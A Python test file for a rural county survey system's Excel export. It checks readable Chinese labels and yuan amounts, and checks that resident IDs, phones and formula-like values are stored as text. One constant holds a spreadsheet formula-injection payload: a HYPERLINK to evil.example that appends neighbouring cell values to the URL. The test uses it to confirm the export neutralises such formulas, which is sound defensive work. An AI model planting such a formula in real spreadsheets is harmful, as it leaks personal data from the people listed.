"""The county's Excel export: readable (labels, yuan, household number and head instead of ids) and
safe (resident IDs as text, a formula typed on a laptop stays text). SQLite and PostgreSQL."""

from __future__ import annotations

import re
from pathlib import Path

from openpyxl import load_workbook

from sync.ids import uuid7
from sync.protocol import Change
from sync.schema import load_forms
from sync.server.cli import main
from sync.server.embedded import EmbeddedServer
from sync.server.export import export_villages

from .conftest import COUNTY, V1, Laptop, household_fields, person_fields

UUID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")
INJECTION = '=HYPERLINK("http://evil.example/?"&C2&D2,"点此核对")'


def _rows(sheet) -> list[tuple]:
    return list(sheet.iter_rows(values_only=True))


def test_export_is_readable_and_safe(server: EmbeddedServer, laptop: Laptop, tmp_path: Path) -> None:
    hid, pid = uuid7(), uuid7()
    person = person_fields(hid, "head", name="王五", phone="13800138000")
    laptop.push(
        [
            Change("household", hid, V1, fields=household_fields(household_no="0012", head_name="王五",
                                                                 address=INJECTION, category="low_income")),
            Change("person", pid, V1, fields=person),
            Change("income", uuid7(), V1, fields={"household_id": hid, "year": 2024, "source": "business",
                                                  "amount_fen": 4_465_900, "note": "+86 sold pigs"}),
            Change("service", uuid7(), V1, fields={"person_id": pid, "household_id": hid,
                                                   "type": "subsidy", "date": "2024-05-01",
                                                   "amount_fen": 12_345, "note": "@home"}),
        ]
    )  # fmt: skip
    out = tmp_path / "county.xlsx"
    counts = export_villages(server.store, load_forms(), COUNTY, [V1], out, year=2024, names={V1: "东村"})
    assert counts == {"household": 1, "person": 1, "income": 1, "service": 1}

    book = load_workbook(out)
    assert book.sheetnames == [
        "家庭户",
        "家庭成员",
        "家庭收入",
        "公共服务",
        "指标",
        "人口年龄结构",
        "服务按月",
        "各村对比",
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                assert not (isinstance(cell.value, str) and UUID.search(cell.value)), "a record id leaked"

    households = _rows(book["家庭户"])
    assert households[0][:4] == ("村代码", "村名", "户号", "户主姓名")
    head = dict(zip(households[0], households[1], strict=True))
    assert head["户号"] == "0012" and head["家庭类别"] == "低保户" and head["户状态"] == "正常"
    address = book["家庭户"].cell(row=2, column=households[0].index("家庭住址") + 1)
    assert address.value == INJECTION and address.data_type == "s" and address.quotePrefix

    people = book["家庭成员"]
    header = [c.value for c in people[1]]
    assert header[:4] == ["村代码", "村名", "户号", "户主姓名"] and "所属家庭户" not in header
    rid = people.cell(row=2, column=header.index("公民身份号码") + 1)
    assert rid.value == person["resident_id"] and rid.data_type == "s" and rid.number_format == "@"
    phone = people.cell(row=2, column=header.index("联系电话") + 1)
    assert phone.value == "13800138000" and phone.data_type == "s"
    assert people.cell(row=2, column=header.index("与户主关系") + 1).value == "户主"

    income = dict(zip(*_rows(book["家庭收入"]), strict=True))
    assert income["户号"] == "0012" and income["户主姓名"] == "王五"
    assert income["收入来源"] == "经营净收入" and income["金额（元）"] == 44_659
    assert income["备注"] == "+86 sold pigs"
    service = dict(zip(*_rows(book["公共服务"]), strict=True))
    assert (
        service["服务对象"] == "王五"
        and service["服务类型"] == "补贴发放"
        and service["金额（元）"] == 123.45
    )
    assert book["公共服务"].cell(row=2, column=list(service).index("备注") + 1).data_type == "s"

    figures = {r[1]: r for r in _rows(book["指标"])[1:]}
    assert figures["人均可支配收入（均值）"][3] == 44_659  # yuan, one person
    assert figures["医疗保险参保率（全部人口）"][4] == 0  # share column: not insured
    villages = _rows(book["各村对比"])
    assert villages[1][:3] == (V1, "东村", 1) and villages[1][4:7] == (1, None, 44_659)  # 1 of 1 household


def test_export_command_names_the_villages(server: EmbeddedServer, laptop: Laptop, tmp_path: Path) -> None:
    hid = uuid7()
    laptop.push([Change("household", hid, V1, fields=household_fields()),
                 Change("person", uuid7(), V1, fields=person_fields(hid, "head"))])  # fmt: skip
    out = tmp_path / "all.xlsx"
    assert main(["--db", server.store.url, "export", str(out), "--village", V1, "--year", "2024"]) == 0
    rows = _rows(load_workbook(out, read_only=True)["家庭成员"])
    assert len(rows) == 2 and rows[1][0] == V1 and rows[1][1]
